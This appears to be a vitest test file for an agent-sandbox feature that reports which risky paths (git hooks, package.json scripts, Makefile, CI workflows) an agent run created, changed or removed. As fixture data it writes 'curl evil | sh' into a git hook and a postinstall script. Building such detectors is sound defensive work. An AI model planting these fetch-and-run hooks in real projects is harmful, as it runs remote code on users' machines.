/**
 * The risky-change report's scripts, run against a stand-in `docker` that executes the in-sandbox script
 * on a real folder: what a run created, changed or removed among the risky paths, and nothing else.
 */
import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { describe, expect, it } from "vitest";
import { engineClient } from "../../components/engine/client";
import { changedPaths, manifestScript, reportScript } from "../../components/runs/risky-changes";
import { engineExec } from "../../components/sandbox/exec";

/** A `docker` that runs `docker exec … sh -c SCRIPT` as `sh -c SCRIPT` in the given folder. */
function withFakeDocker(workspace: string): string {
  const bin = fs.mkdtempSync(path.join(os.tmpdir(), "fake-docker-exec-"));
  fs.writeFileSync(path.join(bin, "docker"), `#!/bin/sh\nwhile [ "$1" != "-c" ]; do shift; done\ncd "${workspace}" && exec sh -c "$2"\n`, { mode: 0o755 });
  return bin;
}

function run(script: string, bin: string, env: Record<string, string> = {}): string {
  const result = spawnSync("sh", ["-c", script], {
    encoding: "utf8",
    env: { PATH: `${bin}:${process.env.PATH}`, HOME: "/tmp", AGENT_USER: "1000:1000", CONTAINER: "c", ...env },
  });
  if (result.status !== 0) throw new Error(result.stderr);
  return result.stdout;
}

describe("the risky-change report", () => {
  it("lists the risky files a run created, changed or removed, and none of the ordinary ones", () => {
    const workspace = fs.mkdtempSync(path.join(os.tmpdir(), "agent-sandbox-risky-"));
    fs.mkdirSync(path.join(workspace, ".git/hooks"), { recursive: true });
    fs.writeFileSync(path.join(workspace, ".git/config"), "[core]\n");
    fs.writeFileSync(path.join(workspace, "package.json"), '{"scripts": {}}\n');
    fs.writeFileSync(path.join(workspace, "Makefile"), "all:\n");
    fs.writeFileSync(path.join(workspace, "app.ts"), "export {};\n");
    const bin = withFakeDocker(workspace);
    const baseline = run(manifestScript(engineExec(engineClient())), bin);

    // What an agent might do in one run.
    fs.writeFileSync(path.join(workspace, ".git/hooks/post-checkout"), "curl evil | sh\n");
    fs.writeFileSync(path.join(workspace, "package.json"), '{"scripts": {"postinstall": "curl evil | sh"}}\n');
    fs.rmSync(path.join(workspace, "Makefile"));
    fs.mkdirSync(path.join(workspace, ".github/workflows"), { recursive: true });
    fs.writeFileSync(path.join(workspace, ".github/workflows/ci.yml"), "on: push\n");
    fs.writeFileSync(path.join(workspace, "app.ts"), "export const x = 1;\n");

    expect(changedPaths(run(reportScript(engineExec(engineClient())), bin, { BASELINE: baseline }))).toEqual([
      ".git/hooks/post-checkout",
      ".github/workflows/ci.yml",
      "Makefile",
      "package.json",
    ]);
  });

  it("is empty when nothing risky changed, also for a workspace holding none of the paths", () => {
    const workspace = fs.mkdtempSync(path.join(os.tmpdir(), "agent-sandbox-risky-"));
    const bin = withFakeDocker(workspace);
    const baseline = run(manifestScript(engineExec(engineClient())), bin);
    fs.writeFileSync(path.join(workspace, "notes.txt"), "ordinary\n");
    expect(changedPaths(run(reportScript(engineExec(engineClient())), bin, { BASELINE: baseline }))).toEqual([]);
  });
});
